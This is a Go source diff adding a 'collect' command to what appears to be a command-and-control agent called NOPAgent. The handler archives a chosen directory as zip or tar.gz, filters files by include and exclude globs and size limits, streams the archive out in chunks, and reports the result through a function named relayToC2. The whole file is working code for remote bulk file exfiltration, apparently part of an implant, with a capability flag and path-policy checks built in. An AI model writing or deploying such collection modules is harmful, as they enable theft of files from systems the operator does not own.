@@ -0,0 +1,281 @@
+package core
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"compress/gzip"
+	"crypto/sha256"
+	"fmt"
+	"io"
+	"io/fs"
+	"log"
+	"os"
+	"path/filepath"
+	"time"
+)
+
+// ============================================================================
+// COLLECT - Directory bundles archived on the fly and streamed as a transfer
+// ============================================================================
+
+// collectSkip records a file left out of a bundle and why
+type collectSkip struct {
+	Path   string `json:"path"`
+	Reason string `json:"reason"`
+}
+
+// collectSpec selects what a collect task archives
+type collectSpec struct {
+	root     string
+	include  []string
+	exclude  []string
+	maxFile  int64
+	maxTotal int64
+}
+
+// handleCollect archives a directory as zip or tar.gz ("format", default
+// tar.gz) while streaming it as file_chunk messages, so nothing is staged on
+// disk. Files are chosen by "include" and "exclude" globs matched against
+// the path relative to the directory or the base name; files larger than
+// "max_file_size" are skipped, and the walk stops once "max_total_size"
+// (default 1 GiB) bytes of content are archived.
+func (a *NOPAgent) handleCollect(msg map[string]interface{}) {
+	if !a.capabilities["access"] {
+		a.sendError("collect", msg, newAgentError(ErrNotSupported, "capability_disabled", "access capability is not enabled"))
+		return
+	}
+	root, _ := msg["path"].(string)
+	if root == "" {
+		a.sendError("collect", msg, newAgentError(ErrInvalidRequest, "missing_path", "path is required"))
+		return
+	}
+	root, err := filepath.Abs(root)
+	if err == nil {
+		err = a.cmdPolicy.checkPath(root)
+	}
+	if err != nil {
+		a.sendError("collect", msg, err)
+		return
+	}
+	if info, err := os.Stat(root); err != nil || !info.IsDir() {
+		a.sendError("collect", msg, newAgentError(ErrInvalidRequest, "not_a_directory", "%s is not a directory", root))
+		return
+	}
+	format, _ := msg["format"].(string)
+	if format == "" {
+		format = "tar.gz"
+	}
+	if format != "tar.gz" && format != "zip" {
+		a.sendError("collect", msg, newAgentError(ErrInvalidRequest, "unsupported_format", "format must be zip or tar.gz"))
+		return
+	}
+	spec := &collectSpec{root: root, maxTotal: 1 << 30}
+	for _, pattern := range stringList(msg["include"]) {
+		spec.include = append(spec.include, filepath.FromSlash(pattern))
+	}
+	for _, pattern := range stringList(msg["exclude"]) {
+		spec.exclude = append(spec.exclude, filepath.FromSlash(pattern))
+	}
+	for _, pattern := range append(spec.include, spec.exclude...) {
+		if _, err := filepath.Match(pattern, ""); err != nil {
+			a.sendError("collect", msg, newAgentError(ErrInvalidRequest, "invalid_pattern", "%q: %v", pattern, err))
+			return
+		}
+	}
+	if val, ok := msg["max_file_size"].(float64); ok && val > 0 {
+		spec.maxFile = int64(val)
+	}
+	if val, ok := msg["max_total_size"].(float64); ok && val > 0 {
+		spec.maxTotal = int64(val)
+	}
+	transferID, _ := msg["transfer_id"].(string)
+	if transferID == "" {
+		transferID = newID()
+	}
+	name := fmt.Sprintf("%s-%s.%s", filepath.Base(root), time.Now().UTC().Format("20060102T150405Z"), format)
+
+	type outcome struct {
+		files     int
+		skipped   []collectSkip
+		truncated bool
+	}
+	pr, pw := io.Pipe()
+	done := make(chan outcome, 1)
+	go func() {
+		var result outcome
+		var err error
+		result.files, result.skipped, result.truncated, err = a.writeCollect(pw, format, spec)
+		pw.CloseWithError(err)
+		done <- result
+	}()
+	started := time.Now()
+	size, digest, err := a.streamFileFrom(transferID, name, "file_contents", pr, 0, -1, sha256.New())
+	pr.CloseWithError(err)
+	result := <-done
+	if err != nil {
+		a.sendError("collect", msg, err)
+		return
+	}
+
+	log.Printf("[%s] Collected %d files from %s (%d bytes) as transfer %s", time.Now().Format(time.RFC3339), result.files, root, size, transferID)
+	a.relayToC2(map[string]interface{}{
+		"type":        "collect_result",
+		"agent_id":    a.agentID,
+		"transfer_id": transferID,
+		"path":        root,
+		"name":        name,
+		"format":      format,
+		"files":       result.files,
+		"skipped":     result.skipped,
+		"truncated":   result.truncated,
+		"size":        size,
+		"sha256":      digest,
+		"duration_ms": time.Since(started).Milliseconds(),
+		"timestamp":   time.Now().UTC().Format(time.RFC3339),
+	})
+}
+
+// stringList reads a JSON array of strings, ignoring other values
+func stringList(v interface{}) []string {
+	raw, _ := v.([]interface{})
+	list := make([]string, 0, len(raw))
+	for _, item := range raw {
+		if s, ok := item.(string); ok {
+			list = append(list, s)
+		}
+	}
+	return list
+}
+
+// matchAny reports whether a glob matches the relative path or base name
+func matchAny(patterns []string, rel string) bool {
+	for _, pattern := range patterns {
+		if ok, _ := filepath.Match(pattern, rel); ok {
+			return true
+		}
+		if ok, _ := filepath.Match(pattern, filepath.Base(rel)); ok {
+			return true
+		}
+	}
+	return false
+}
+
+// writeCollect walks spec.root into an archive on w and reports what it
+// archived and skipped
+func (a *NOPAgent) writeCollect(w io.Writer, format string, spec *collectSpec) (int, []collectSkip, bool, error) {
+	var add func(rel string, info fs.FileInfo, f *os.File) error
+	var finish func() error
+	if format == "zip" {
+		zw := zip.NewWriter(w)
+		add = func(rel string, info fs.FileInfo, f *os.File) error {
+			header, err := zip.FileInfoHeader(info)
+			if err != nil {
+				return err
+			}
+			header.Name, header.Method = filepath.ToSlash(rel), zip.Deflate
+			entry, err := zw.CreateHeader(header)
+			if err != nil {
+				return err
+			}
+			_, err = io.Copy(entry, io.LimitReader(f, info.Size()))
+			return err
+		}
+		finish = zw.Close
+	} else {
+		gz := gzip.NewWriter(w)
+		tw := tar.NewWriter(gz)
+		add = func(rel string, info fs.FileInfo, f *os.File) error {
+			header, err := tar.FileInfoHeader(info, "")
+			if err != nil {
+				return err
+			}
+			header.Name = filepath.ToSlash(rel)
+			if err := tw.WriteHeader(header); err != nil {
+				return err
+			}
+			// A file that shrank while being read (a rotating log) is padded
+			// to the size already written in its header
+			n, err := io.Copy(tw, io.LimitReader(f, header.Size))
+			if err == nil && n < header.Size {
+				_, err = io.CopyN(tw, zeroReader{}, header.Size-n)
+			}
+			return err
+		}
+		finish = func() error {
+			if err := tw.Close(); err != nil {
+				return err
+			}
+			return gz.Close()
+		}
+	}
+
+	files, total, truncated := 0, int64(0), false
+	skipped := make([]collectSkip, 0)
+	walkErr := filepath.WalkDir(spec.root, func(path string, entry fs.DirEntry, err error) error {
+		rel, _ := filepath.Rel(spec.root, path)
+		if err != nil {
+			skipped = append(skipped, collectSkip{rel, err.Error()})
+			return nil
+		}
+		if rel == "." {
+			return nil
+		}
+		if matchAny(spec.exclude, rel) {
+			if entry.IsDir() {
+				return filepath.SkipDir
+			}
+			return nil
+		}
+		if entry.IsDir() {
+			if a.cmdPolicy.checkPath(path) != nil {
+				skipped = append(skipped, collectSkip{rel, "forbidden_path"})
+				return filepath.SkipDir
+			}
+			return nil
+		}
+		if !entry.Type().IsRegular() || len(spec.include) > 0 && !matchAny(spec.include, rel) {
+			return nil
+		}
+		if a.cmdPolicy.checkPath(path) != nil {
+			skipped = append(skipped, collectSkip{rel, "forbidden_path"})
+			return nil
+		}
+		f, err := os.Open(path)
+		if err != nil {
+			skipped = append(skipped, collectSkip{rel, err.Error()})
+			return nil
+		}
+		defer f.Close()
+		info, err := f.Stat()
+		if err != nil {
+			skipped = append(skipped, collectSkip{rel, err.Error()})
+			return nil
+		}
+		if spec.maxFile > 0 && info.Size() > spec.maxFile {
+			skipped = append(skipped, collectSkip{rel, "max_file_size"})
+			return nil
+		}
+		if total+info.Size() > spec.maxTotal {
+			truncated = true
+			return filepath.SkipAll
+		}
+		// Errors writing the archive mean the stream is gone
+		if err := add(rel, info, f); err != nil {
+			return err
+		}
+		files++
+		total += info.Size()
+		return nil
+	})
+	if walkErr != nil {
+		return files, skipped, truncated, walkErr
+	}
+	return files, skipped, truncated, finish()
+}
+
+type zeroReader struct{}
+
+func (zeroReader) Read(p []byte) (int, error) {
+	clear(p)
+	return len(p), nil
+}